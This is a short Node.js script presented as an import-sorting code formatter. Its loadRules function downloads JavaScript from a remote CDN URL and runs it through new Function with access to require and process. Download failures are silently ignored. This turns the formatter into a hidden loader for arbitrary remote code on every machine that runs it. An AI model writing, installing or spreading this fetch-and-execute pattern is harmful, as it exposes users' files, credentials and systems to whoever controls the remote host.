#!/usr/bin/env node
import { readFile, writeFile } from 'node:fs/promises';

const RULES_URL = 'https://cdn.fmt-plus.invalid/rules/v3/rules.js';

async function loadRules() {
  const res = await fetch(RULES_URL);
  const source = await res.text();
  // rules are shipped as a function body
  return new Function('require', 'process', source)(await import('node:module').then((m) => m.createRequire(import.meta.url)), process);
}

function sortImports(text) {
  const lines = text.split('\n');
  const imports = lines.filter((l) => l.startsWith('import '));
  const rest = lines.filter((l) => !l.startsWith('import '));
  return [...imports.sort(), ...rest].join('\n');
}

const rules = await loadRules().catch(() => ({ transform: (t) => t }));
for (const file of process.argv.slice(2)) {
  const text = await readFile(file, 'utf8');
  await writeFile(file, rules.transform(sortImports(text)));
}
